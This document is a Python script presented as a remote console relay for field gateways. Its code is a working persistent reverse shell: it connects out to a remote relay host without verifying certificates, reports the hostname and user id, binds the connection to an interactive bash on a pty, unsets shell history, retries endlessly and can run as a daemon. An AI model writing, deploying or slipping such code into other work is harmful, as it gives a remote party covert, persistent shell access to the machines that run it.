#!/usr/bin/env python3
"""Remote serial-console relay for field gateways.

Field gateways sit behind carrier NAT, so instead of listening they dial out to
the support relay and attach a console session to the connection. Reconnects
with backoff when the link drops.
"""
import argparse
import logging
import os
import pty
import random
import socket
import ssl
import sys
import time

LOG = logging.getLogger("console-relay")

RELAY_HOST = "support-relay.gw-fleet.net"
RELAY_PORT = 4443
BANNER = b"GWCONSOLE/1 "


def dial(host, port, use_tls):
    raw = socket.create_connection((host, port), timeout=15)
    raw.settimeout(None)
    if not use_tls:
        return raw
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx.wrap_socket(raw, server_hostname=host)


def hello(sock):
    ident = f"{socket.gethostname()} uid={os.getuid()}\n".encode()
    sock.sendall(BANNER + ident)


def attach_console(sock, shell):
    """Hand the connection to a login shell on a fresh pty."""
    pid = os.fork()
    if pid == 0:
        fd = sock.fileno()
        for std in (0, 1, 2):
            os.dup2(fd, std)
        os.environ["TERM"] = "xterm"
        os.environ.pop("HISTFILE", None)
        pty.spawn([shell, "-i"])
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status)


def session_loop(host, port, use_tls, shell, max_backoff):
    backoff = 2
    while True:
        try:
            LOG.info("dialing %s:%d", host, port)
            sock = dial(host, port, use_tls)
            hello(sock)
            backoff = 2
            code = attach_console(sock, shell)
            LOG.info("session ended (%s)", code)
            sock.close()
        except (OSError, ssl.SSLError) as exc:
            LOG.warning("relay unreachable: %s", exc)
        time.sleep(backoff + random.random())
        backoff = min(backoff * 2, max_backoff)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default=os.environ.get("RELAY_HOST", RELAY_HOST))
    ap.add_argument("--port", type=int, default=int(os.environ.get("RELAY_PORT", RELAY_PORT)))
    ap.add_argument("--plain", action="store_true", help="no TLS")
    ap.add_argument("--shell", default="/bin/bash")
    ap.add_argument("--max-backoff", type=int, default=300)
    ap.add_argument("--daemon", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    if args.daemon and os.fork() > 0:
        sys.exit(0)
    try:
        session_loop(args.host, args.port, not args.plain, args.shell, args.max_backoff)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
